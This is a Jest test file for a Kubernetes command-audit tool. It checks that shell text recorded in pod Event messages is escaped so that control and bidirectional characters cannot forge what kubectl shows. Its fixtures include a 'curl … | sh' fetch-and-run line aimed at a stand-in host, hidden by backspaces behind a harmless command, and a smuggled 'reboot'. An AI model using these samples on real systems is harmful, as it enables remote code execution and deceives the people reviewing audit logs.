/**
 * Hostile input: text typed into a container's shell must not forge what `kubectl describe pod` shows. kubectl
 * escapes only ESC and CR in an Event's message; a backspace, a line feed (typed after Ctrl-V, or pasted) or
 * U+202E would otherwise show another command, or a line that looks like the kubelet's.
 */
import { MAX_EVENT_NOTE_BYTES } from '../../common/text/escape.js';
import {
  addToFold,
  commandEventBody,
  commandEventOf,
  coverageEventBody,
  coverageEventOf,
  eventMessage,
  foldEventBody,
  startFold,
} from './events.js';
import { command, coverageRecord, exec } from './testdata/fakes.js';

// What a terminal would show for the raw message: "app (uid 0, pid 4242): ls -la", then on the next line a
// kubelet-like Event.
const FORGED =
  'curl -s http://x.example/i | sh\r\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\bls -la' +
  '\n  Normal  Pulled  2s  kubelet  Container image "app:1" already present on machine';

// eslint-disable-next-line no-control-regex -- finding control characters is the point
const ACTED_ON = /[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

describe('Event messages with hostile command text', () => {
  it('show backspaces, carriage returns and line feeds escaped, on one line', () => {
    const message = commandEventBody(commandEventOf(command(1, FORGED))!).message!;
    expect(message).not.toMatch(ACTED_ON);
    expect(message).toBe(
      'app (uid 0, pid 4242): curl -s http://x.example/i | sh\\x0d' +
        '\\x08'.repeat(32) +
        'ls -la\\x0a  Normal  Pulled  2s  kubelet  Container image "app:1" already present on machine',
    );
  });

  it('show bidirectional overrides and isolates escaped', () => {
    const message = eventMessage(commandEventOf(command(2, 'cat \u202eexe.txt\u2066 \u200f'))!);
    expect(message).toBe('app (uid 0, pid 4242): cat \\u{202e}exe.txt\\u{2066} \\u{200f}');
  });

  it('show C1 controls and DEL escaped, and a backslash doubled so escapes cannot be faked', () => {
    const message = eventMessage(commandEventOf(command(3, 'printf "\\x08"\x9b2J\x7f'))!);
    expect(message).toBe('app (uid 0, pid 4242): printf "\\\\x08"\\x9b2J\\x7f');
  });

  it('escape an exec’s arguments too', () => {
    const message = eventMessage(commandEventOf(exec(4, ['sh', '-c', 'id\nreboot']))!);
    expect(message).not.toMatch(ACTED_ON);
    expect(message).toContain('\\x0a');
  });

  it('stay under 1 KiB when escaping makes the text longer, and never end inside an escape', () => {
    const message = eventMessage(commandEventOf(command(5, '\b'.repeat(2000)))!);
    expect(Buffer.byteLength(message)).toBeLessThanOrEqual(MAX_EVENT_NOTE_BYTES);
    expect(message).toMatch(/(\\x08)+…$/);
  });

  it('in a fold summary show the folded commands escaped', () => {
    let fold = startFold(commandEventOf(command(10, 'a'))!);
    for (let i = 10; i < 14; i++) fold = addToFold(fold, commandEventOf(command(i, `id\n\u202e${i}`))!);
    const message = foldEventBody(fold, { burst: 25, perSecond: 5 }).message!;
    expect(message).not.toMatch(ACTED_ON);
    expect(message).toContain('id\\x0a\\u{202e}10; id\\x0a\\u{202e}11');
  });

  it('in a fold summary of long commands stay under 1 KiB, with whole samples only', () => {
    let fold = startFold(commandEventOf(command(10, 'a'))!);
    for (let i = 10; i < 30; i++) fold = addToFold(fold, commandEventOf(command(i, '\b'.repeat(500)))!);
    const message = foldEventBody(fold, { burst: 25, perSecond: 5 }).message!;
    expect(Buffer.byteLength(message)).toBeLessThanOrEqual(MAX_EVENT_NOTE_BYTES);
    expect(message).toMatch(/: ((\\x08)+…; )+\.\.\.$/);
  });
});

describe('a coverage gap under a hostile path', () => {
  it('is told on the pod, in its namespace, with the path escaped', () => {
    const path = '/opt/acme\u202e\n  Normal  Pulled  kubelet/bin/bash';
    const body = coverageEventBody(coverageEventOf(coverageRecord(7, { reason: `no readline in ${path}` }))!);
    expect(body).toMatchObject({
      metadata: { namespace: 'shop' },
      involvedObject: { kind: 'Pod', namespace: 'shop', name: 'web-0' },
      type: 'Warning',
      reason: 'NotAudited',
    });
    expect(body.message).not.toMatch(ACTED_ON);
    expect(body.message).toBe(
      'app is not audited: no readline in /opt/acme\\u{202e}\\x0a  Normal  Pulled  kubelet/bin/bash',
    );
  });
});
